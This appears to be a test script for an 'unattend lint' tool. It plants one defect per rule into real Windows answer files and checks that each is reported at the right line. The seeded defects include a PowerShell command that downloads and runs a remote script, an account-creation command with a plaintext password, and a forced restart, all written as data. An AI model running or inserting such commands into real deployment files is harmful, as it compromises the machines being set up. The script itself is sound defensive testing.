#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# Plants one defect in each of many real answer files and asks whether `unattend lint` finds it with the right rule in
# the right line: one kind of defect a rule, up to 50 files a kind. A kind counts when 99 % of its defects are found.
set -u
CORPUS=${CORPUS:-../shared/corpus}
: "${BIN:?folder with the tools}"
[ -d "$CORPUS/unattend" ] || { echo "skipped: no answer files in $CORPUS/unattend"; exit 0; }
[ -x "$BIN/unattend" ] || { echo "skipped: no unattend in $BIN"; exit 0; }
work=$(mktemp -d) || exit 1
trap 'rm -rf "$work"' EXIT

python3 - "$BIN/unattend" "$CORPUS/unattend" "$work" <<'PYTHON'
import json, os, re, subprocess, sys, xml.parsers.expat

tool, corpus, work = sys.argv[1:4]
WANTED, SHARE = 50, 0.99
MARK = b"\x01"  # in new text: where the finding is expected

class Node:
    def __init__(self, name, attributes, start, parent):
        self.name, self.attributes, self.start, self.parent = name.split(":")[-1], attributes, start, parent
        self.tag = name
        self.children, self.end = [], None
        if parent:
            parent.children.append(self)
    def chain(self):
        node, names = self, []
        while node:
            names.append(node)
            node = node.parent
        return names[::-1]

class File:
    """The elements of a file with their bytes: tag, content, all."""
    def __init__(self, name, raw):
        self.name, self.raw, self.nodes = name, raw, []
        parser = xml.parsers.expat.ParserCreate()
        open_ = []
        def start(tag, attributes):
            node = Node(tag, attributes, parser.CurrentByteIndex, open_[-1] if open_ else None)
            at, quote = node.start, 0
            while quote or raw[at] != 0x3e:
                c = raw[at]
                if quote:
                    quote = 0 if c == quote else quote
                elif c in (0x22, 0x27):
                    quote = c
                at += 1
            node.open_end = at + 1
            node.empty = raw[at - 1] == 0x2f
            self.nodes.append(node)
            open_.append(node)
        def end(tag):
            node = open_.pop()
            node.close = node.open_end if node.empty else parser.CurrentByteIndex
            node.end = node.open_end if node.empty else raw.index(b">", node.close) + 1
        parser.StartElementHandler, parser.EndElementHandler = start, end
        parser.Parse(raw, True)
        for node in self.nodes:
            chain = node.chain()
            node.pass_ = chain[1].attributes.get("pass") if len(chain) > 1 else None
            node.component = chain[2].attributes.get("name", "").replace("Microsoft-Windows-", "", 1) if len(chain) > 2 else ""
            node.path = "/".join(n.name for n in chain[3:])
            node.value = raw[node.open_end:node.close].strip() if not node.children and not node.empty else b""

    def find(self, path=None, component=None, pass_=None, test=None):
        for node in self.nodes:
            if path is not None and not (node.path and re.fullmatch(path, node.path)):
                continue
            if component and node.component != component or pass_ and node.pass_ != pass_:
                continue
            if test is None or test(node):
                yield node

    def indent(self, node):
        at = node.start
        while at and self.raw[at - 1] in b" \t":
            at -= 1
        return self.raw[at:node.start]

kinds = []
def kind(rule, what):
    def add(function):
        kinds.append((rule, what, function))
        return function
    return add

# each gives the edits of the first place that fits: [(at, end, new text with MARK)]
def set_value(path, new, component=None, pass_=None, test=lambda n: True):
    def mutate(f):
        for n in f.find(path, component, pass_, lambda n: n.value and test(n)):
            return [(n.open_end, n.close, MARK + new)]
    return mutate

def set_attribute(node_test, name, new):
    def mutate(f):
        for n in f.nodes:
            m = re.search(rb'\s' + name + rb'\s*=\s*"([^"]*)"', f.raw[n.start:n.open_end]) if node_test(n) else None
            if m:
                return [(n.start + m.start(1), n.start + m.end(1), MARK + new)]
    return mutate

def drop_attribute(node_test, pattern):
    def mutate(f):
        for n in f.nodes:
            m = re.search(rb'\s+' + pattern + rb'\s*=\s*"[^"]*"', f.raw[n.start:n.open_end]) if node_test(n) else None
            if m:
                return [(n.start, n.start, MARK), (n.start + m.start(), n.start + m.end(), b"")]
    return mutate

def add_line(path_test, text):
    """a new last child on its own line"""
    def mutate(f):
        for n in f.nodes:
            if path_test(n) and not n.empty and n.children:
                last = n.children[-1]
                return [(last.end, last.end, b"\n" + f.indent(last) + text(f, n))]
    return mutate

def either(*ways):
    """the first of several mutations that fits"""
    return lambda f: next((edits for edits in (way(f) for way in ways) if edits), None)

def drop_child(name, path, **where):
    """removes a child; the finding is at its parent"""
    def mutate(f):
        for n in f.find(path, **where):
            for c in n.children:
                if c.name == name:
                    return [(n.start, n.start, MARK), (c.start, c.end, b"")]
    return mutate

is_component = lambda n: len(n.chain()) == 3 and n.name == "component"
is_settings = lambda n: len(n.chain()) == 2 and n.name == "settings"
is_root = lambda n: n.parent is None
shell = lambda pass_: lambda n: is_component(n) and n.component == "Shell-Setup" and n.pass_ == pass_
leaf = lambda f, n: n.value and not n.children

@kind("UA001", "end tag with another name")
def _(f):
    for n in f.nodes:
        if is_component(n) and not n.empty:
            return [(n.close, n.close, MARK), (n.close + 2, n.close + 3, b"k")]

@kind("UA002", "-- in a comment")
def _(f):
    n = next((n for n in f.nodes if is_settings(n) and not n.empty), None)
    return n and [(n.close, n.close, b"\n" + MARK + b"<!-- a -- b -->\n")]

@kind("UA003", "text before the declaration")
def _(f):
    return [(0, 0, MARK + b" ")] if f.raw.startswith(b"<?xml") else None

@kind("UA004", "declared encoding is another")
def _(f):
    m = re.match(rb'<\?xml[^>]*encoding="([Uu][Tt][Ff]-8)"', f.raw)
    return m and [(m.start(1), m.end(1), MARK + b"utf-16")]

@kind("UA008", "document type")
def _(f):
    n = f.nodes[0]
    return [(n.start, n.start, MARK + b"<!DOCTYPE unattend>\n")]

@kind("UA101", "root with another name")
def _(f):
    n = f.nodes[0]
    return [(n.start + 1 + len(n.tag), n.start + 1 + len(n.tag), MARK + b"ed"), (n.end - 1, n.end - 1, b"ed")] if n.tag == "unattend" and f.raw[n.end - 2:n.end] == b"d>" else None

kind("UA102", "pass left out")(drop_attribute(is_settings, rb"pass"))
kind("UA103", "pass mistyped")(set_attribute(is_settings, rb"pass", b"oobesystem"))

@kind("UA104", "pass given twice")
def _(f):
    n = next((n for n in f.nodes if is_settings(n) and n.pass_), None)
    return n and [(n.end, n.end, b"\n" + MARK + b'<settings pass="%s"></settings>' % n.attributes.get("pass", "").encode())]

@kind("UA105", "strange element in the root")
def _(f):
    last = f.nodes[0].children[-1] if f.nodes[0].children else None
    return last and [(last.end, last.end, b"\n" + MARK + b"<passes/>")]

@kind("UA106", "component outside settings")
def _(f):
    n = next((n for n in f.nodes if is_component(n)), None)
    last = f.nodes[0].children[-1] if n else None
    return n and [(last.end, last.end, b"\n" + MARK + f.raw[n.start:n.end])]

@kind("UA107", "pass without components")
def _(f):
    have = {n.pass_ for n in f.nodes if is_settings(n)}
    last = [n for n in f.nodes if is_settings(n)][-1:]
    return [(last[0].end, last[0].end, b"\n" + MARK + b'<settings pass="auditUser"></settings>')] if last and "auditUser" not in have else None

kind("UA109", "component mistyped")(set_attribute(lambda n: is_component(n) and n.component == "Shell-Setup", rb"name", b"Microsoft-Windows-Shell-Setpu"))

@kind("UA110", "component given twice")
def _(f):
    n = next((n for n in f.nodes if is_component(n) and n.pass_), None)
    return n and [(n.end, n.end, b"\n" + MARK + f.raw[n.start:n.end])]

kind("UA111", "language left out")(drop_attribute(is_component, rb"language"))
kind("UA112", "token with a wrong digit")(set_attribute(is_component, rb"publicKeyToken", b"31bf3856ad364e36"))
kind("UA113", "language not neutral")(set_attribute(is_component, rb"language", b"en-US"))
kind("UA114", "versionScope in other case")(set_attribute(is_component, rb"versionScope", b"NonSxS"))
kind("UA115", "architecture mistyped")(set_attribute(is_component, rb"processorArchitecture", b"amd46"))

@kind("UA119", "prefix not declared")
def _(f):
    for n in f.nodes:
        m = re.search(rb"wcm(:action)", f.raw[n.start:n.open_end])
        if m and "xmlns:wcm" not in n.attributes:
            return [(n.start + m.start(), n.start + m.start(1), MARK + b"wmc")]

@kind("UA120", "element without namespace")
def _(f):
    for n in f.nodes:
        if n.path and n.component == "Shell-Setup" and "xmlns" not in n.attributes and not n.empty:
            at = n.start + 1 + len(n.tag)
            return [(n.start, n.start, MARK), (at, at, b' xmlns=""')]

@kind("UA122", "pass marked as done")
def _(f):
    n = next((n for n in f.nodes if is_settings(n) and n.pass_ and not n.empty), None)
    return n and [(n.open_end - 1, n.open_end - 1, b" " + MARK + b'wasPassProcessed="true"')]

@kind("UA124", "text between elements")
def _(f):
    for n in f.nodes:
        if is_component(n) and n.children:
            return [(n.children[-1].end, n.children[-1].end, b"\n" + MARK + b"stray\n")]

@kind("UA201", "setting mistyped")
def _(f):
    for n in f.find("TimeZone|OOBE/HideEULAPage|UserData/AcceptEula", test=lambda n: n.value):
        return [(n.start, n.start, MARK), (n.start + 1, n.open_end - 1, n.tag.encode() + b"e"), (n.close + 2, n.end - 1, n.tag.encode() + b"e")]

kind("UA202", "setting in a wrong pass")(add_line(lambda n: shell("oobeSystem")(n) and not any(c.name == "ComputerName" for c in n.children), lambda f, n: MARK + b"<ComputerName>PC</ComputerName>"))

@kind("UA203", "setting given twice")
def _(f):
    for n in f.find("TimeZone|OOBE/HideEULAPage|UserData/AcceptEula|RegisteredOwner", test=lambda n: n.value):
        return [(n.end, n.end, b"\n" + MARK + f.raw[n.start:n.end])]

boolean = "OOBE/HideEULAPage|UserData/AcceptEula|EnableLUA|AutoLogon/Enabled"
kind("UA204", "boolean is yes")(set_value(boolean, b"yes"))
kind("UA205", "number is a word")(set_value(".*/Order", b"one"))
kind("UA206", "word not in the list")(set_value(".*/WillShowUI|OOBE/ProtectYourPC", b"Sometimes"))
kind("UA207", "word in other case")(set_value(".*/WillShowUI", b"onERROR"))
kind("UA208", "text too long")(set_value("UserData/FullName|RegisteredOwner|UserData/Organization|RegisteredOrganization", b"x" * 300))
kind("UA209", "number out of range")(set_value(".*/(RunSynchronousCommand|SynchronousCommand)/Order", b"501"))
kind("UA210", "empty where it must not be")(lambda f: next(([(n.start, n.start, MARK), (n.open_end, n.close, b"")] for n in f.find("UserData/ProductKey/Key|RunSynchronous/RunSynchronousCommand/Path|SetupUILanguage/UILanguage", test=lambda n: n.value and n.component in ("Setup", "Deployment", "International-Core-WinPE") and n.name != "Key")), None))
kind("UA212", "line break in a value")(lambda f: next(([(n.open_end, n.close, MARK + n.value.replace(b" ", b"\n", 1))] for n in f.find(".*/(CommandLine|Path)", test=lambda n: b" " in n.value)), None))
kind("UA215", "action left out")(drop_attribute(lambda n: n.name in ("LocalAccount", "SynchronousCommand", "RunSynchronousCommand", "CreatePartition") and n.path, rb"wcm:action"))

@kind("UA216", "action where no list is")
def _(f):
    for n in f.find("OOBE|UserData|ImageInstall"):
        if "wcm" in str(n.chain()[2].attributes) + str(n.chain()[0].attributes):
            at = n.start + 1 + len(n.tag)
            return [(at, at, b" " + MARK + b'wcm:action="add"')]

kind("UA217", "action mistyped")(set_attribute(lambda n: bool(n.path), rb"wcm:action", b"append"))
kind("UA218", "keyValue left out")(drop_attribute(lambda n: n.name in ("PathAndCredentials", "FirewallGroup", "IpAddress", "DomainName"), rb"wcm:keyValue"))
kind("UA219", "Order left out")(drop_child("Order", ".*/(SynchronousCommand|RunSynchronousCommand|CreatePartition|ModifyPartition)"))

@kind("UA220", "Order given twice")
def _(f):
    for n in f.find("FirstLogonCommands|.*/CreatePartitions|RunSynchronous"):
        items = [c for c in n.children if any(o.name == "Order" and o.value for o in c.children)]
        if len(items) > 1:
            first, second = ([o for o in i.children if o.name == "Order"][0] for i in items[:2])
            return [(items[1].start, items[1].start, MARK), (second.open_end, second.close, first.value)]

KEY = "UserData/ProductKey/Key"
kind("UA302", "key with four groups")(set_value(KEY, b"W269N-WFGWX-YVC9B-4J6C9"))
kind("UA303", "key with a letter that no key has")(set_value(KEY, b"W269N-WFGWX-YVC9B-4J6C9-T83GA"))
kind("UA304", "key with two N")(set_value(KEY, b"W269N-WFGWX-YVN9B-4J6C9-T83GX"))
kind("UA305", "key with a wrong character")(set_value(KEY, b"W269N-WFGWX-YVC9B-4J6C9-T83GY"))
kind("UA306", "placeholder as key")(either(
    set_value(KEY, b"XXXXX-XXXXX-XXXXX-XXXXX-XXXXX", test=lambda n: not any(b"Always" in c.value for c in n.parent.children)),
    add_line(lambda n: n.path == "UserData" and n.component == "Setup" and n.pass_ == "windowsPE" and not any(c.name == "ProductKey" for c in n.children),
             lambda f, n: b"<ProductKey><Key>" + MARK + b"XXXXX-XXXXX-XXXXX-XXXXX-XXXXX</Key></ProductKey>")))
kind("UA307", "empty key")(lambda f: next(([(n.start, n.start, MARK), (n.open_end, n.close, b"")] for n in f.find(KEY, test=lambda n: not n.empty)), None))
kind("UA308", "key not in its element")(lambda f: next(([(n.open_end, n.close, MARK + b"W269N-WFGWX-YVC9B-4J6C9-T83GX")] for n in f.find("UserData/ProductKey", test=lambda n: not n.empty)), None))
kind("UA309", "activation key in a wrong pass")(add_line(lambda n: shell("oobeSystem")(n) and not any(c.name == "ProductKey" for c in n.children), lambda f, n: MARK + b"<ProductKey>W269N-WFGWX-YVC9B-4J6C9-T83GX</ProductKey>"))
kind("UA401", "computer name too long")(set_value("ComputerName", b"WORKSTATION-0017"))
kind("UA402", "computer name with a space")(set_value("ComputerName", b"MY PC"))
kind("UA403", "zone of another system")(set_value("TimeZone", b"Europe/Berlin"))
kind("UA404", "keyboard by name")(set_value("InputLocale", b"english!"))
kind("UA405", "language tag mistyped")(set_value("UserLocale|SystemLocale", b"en_USA"))
kind("UA406", "language without a pack")(set_value("UILanguage", b"gd-GB"))
kind("UA409", "account with a slash")(set_value("UserAccounts/LocalAccounts/LocalAccount/Name", b"a/b"))
kind("UA410", "built-in account made anew")(set_value("UserAccounts/LocalAccounts/LocalAccount/Name", b"Administrator"))
kind("UA501", "two ways to choose the partition")(add_line(lambda n: n.path == "ImageInstall/OSImage" and {"InstallTo"} == {c.name for c in n.children} & {"InstallTo", "InstallToAvailablePartition"}, lambda f, n: MARK + b"<InstallToAvailablePartition>true</InstallToAvailablePartition>"))
kind("UA505", "partition behind one that fills the disk")(lambda f: next(([(n.start, n.start, MARK), (s[0].start, s[0].end, b"<Extend>true</Extend>")] for p in f.find(".*/CreatePartitions", test=lambda p: len(p.children) > 1) for n in p.children[:1] for s in [[c for c in n.children if c.name == "Size"]] if s and not any(c.name == "Extend" for c in n.children)), None))
kind("UA506", "partition without size")(drop_child("Size", ".*/CreatePartitions/CreatePartition", test=lambda n: not any(c.name == "Extend" for c in n.children)))
kind("UA516", "drive letter mistyped")(set_value("DiskConfiguration/Disk/ModifyPartitions/ModifyPartition/Letter", b"1"))
kind("UA518", "unknown key of the image choice")(set_value("ImageInstall/OSImage/InstallFrom/MetaData/Key", b"/IMAGE/TITLE"))
kind("UA520", "licence not accepted")(set_value("UserData/AcceptEula", b"false", test=lambda n: any(c.name == "OSImage" for i in n.chain()[2].children if i.name == "ImageInstall" for c in i.children)))
kind("UA601", "OOBE skipped")(add_line(lambda n: n.path == "OOBE" and n.pass_ == "oobeSystem", lambda f, n: MARK + b"<SkipMachineOOBE>true</SkipMachineOOBE>"))
kind("UA605", "AutoLogon without user")(drop_child("Username", "AutoLogon"))
kind("UA607", "thousands of logons")(either(set_value("AutoLogon/LogonCount", b"9999"),
    add_line(lambda n: n.path == "AutoLogon" and n.component == "Shell-Setup" and not any(c.name == "LogonCount" for c in n.children),
             lambda f, n: b"<LogonCount>" + MARK + b"9999</LogonCount>")))
kind("UA608", "AutoLogon of nobody")(set_value("AutoLogon/Username", b"nobody-17"))
kind("UA611", "hidden password that is none")(lambda f: next(([(p.open_end, p.close, b"false"), (v.open_end, v.close, MARK + b"QUJD")] for n in f.find("AutoLogon/Password|UserAccounts/AdministratorPassword") for p in n.children for v in n.children if p.name == "PlainText" and v.name == "Value" and p.value and v.value), None))
kind("UA613", "password in a command")(set_value(".*/(SynchronousCommand/CommandLine|RunSynchronousCommand/Path)", b"net user admin Tr0ub4dor /add"))
kind("UA701", "command too long")(set_value("FirstLogonCommands/SynchronousCommand/CommandLine", b"cmd /c echo " + b"x" * 1100))
kind("UA702", "command that restarts")(set_value("RunSynchronous/RunSynchronousCommand/Path", b"shutdown /r /t 0", "Deployment"))
kind("UA708", "command from the network")(set_value(".*/(SynchronousCommand/CommandLine|RunSynchronousCommand/Path)", b"powershell -Command iex (iwr http://example.com/x.ps1)"))
GENERALIZE = (b'<settings pass="generalize"><component name="Microsoft-Windows-Security-SPP" processorArchitecture="amd64" publicKeyToken="31bf3856ad364e35" '
              b'language="neutral" versionScope="nonSxS"><SkipRearm>' + MARK + b"1</SkipRearm></component></settings>")
kind("UA807", "activation state kept")(either(set_value("SkipRearm", b"1"),
    add_line(lambda n: is_root(n) and n.tag == "unattend" and not any(c.attributes.get("pass") == "generalize" for c in n.children), lambda f, n: GENERALIZE)))

# ---- the run -----------------------------------------------------------------------------------------

def lint(folder):
    run = subprocess.run([tool, "lint", "--no-config", "--json", "--enable", "all", folder], capture_output=True)
    if run.returncode not in (0, 1):
        sys.exit(f"FAIL unattend lint ended with {run.returncode}: {run.stderr[-300:]!r}")
    result = json.loads(run.stdout)
    found = {f["file"]: {} for f in result["files"]}
    for f in result["findings"]:
        found.setdefault(f["file"], {}).setdefault(f["rule"], set()).add(f["line"])
    return result, found

def load():
    result, found = lint(corpus)
    files = []
    for entry in sorted(result["files"], key=lambda e: e["file"]):
        raw = open(entry["file"], "rb").read()
        if entry["kind"] != "xml" or entry["template"] or not raw.isascii() or len(raw) > 200000:
            continue
        try:
            files.append((File(os.path.basename(entry["file"]), raw), found[entry["file"]]))
        except xml.parsers.expat.ExpatError:
            pass
    return files

def apply(raw, edits):
    out, at = [], 0
    for start, end, new in sorted(edits, key=lambda e: (e[0], e[1])):
        out += [raw[at:start], new]
        at = end
    text = b"".join(out) + raw[at:]
    place = text.index(MARK)
    return text.replace(MARK, b""), text[:place].count(b"\n") + 1

def plant(files):
    planted = {}
    for number, (rule, what, function) in enumerate(kinds):
        done = 0
        for f, before in files:
            edits = function(f) if rule not in before and done < WANTED else None
            if not edits:
                continue
            text, line = apply(f.raw, edits)
            path = os.path.join(work, f"{number:03}-{f.name}")
            open(path, "wb").write(text)
            planted[path] = (number, line)
            done += 1
    return planted

files = load()
if len(files) < 50:
    sys.exit(f"FAIL only {len(files)} files of the corpus can be used")
planted = plant(files)
_, found = lint(work)
score = [[0, 0, []] for _ in kinds]
for path, (number, line) in planted.items():
    rule = kinds[number][0]
    score[number][1] += 1
    lines = found.get(path, {}).get(rule, set())
    if line in lines:
        score[number][0] += 1
    else:
        score[number][2].append(f"{os.path.basename(path)[4:]}:{line}, reported: {sorted(lines)[:4] or 'not at all'}")
passed = failed = 0
print(f"{len(files)} files, {len(planted)} defects of {len(kinds)} kinds")
for (rule, what, _), (good, all_, missed) in zip(kinds, score):
    verdict = "ok" if all_ and good >= SHARE * all_ else "FAIL"
    passed, failed = passed + (verdict == "ok"), failed + (verdict != "ok")
    print(f"{verdict:4} {rule} {what:36} {good:3} of {all_:3}")
    for miss in missed[:3]:
        print(f"       {miss}")
total = sum(s[0] for s in score), sum(s[1] for s in score)
print(f"found with rule and line: {total[0]} of {total[1]} ({100 * total[0] / max(1, total[1]):.2f} %)")
if total[0] < SHARE * total[1] or len(kinds) < 40:
    failed += 1
    print("FAIL less than 99 % of the defects, or fewer than 40 kinds")
print(f"{passed} passed, {failed} failed")
sys.exit(failed > 0)
PYTHON
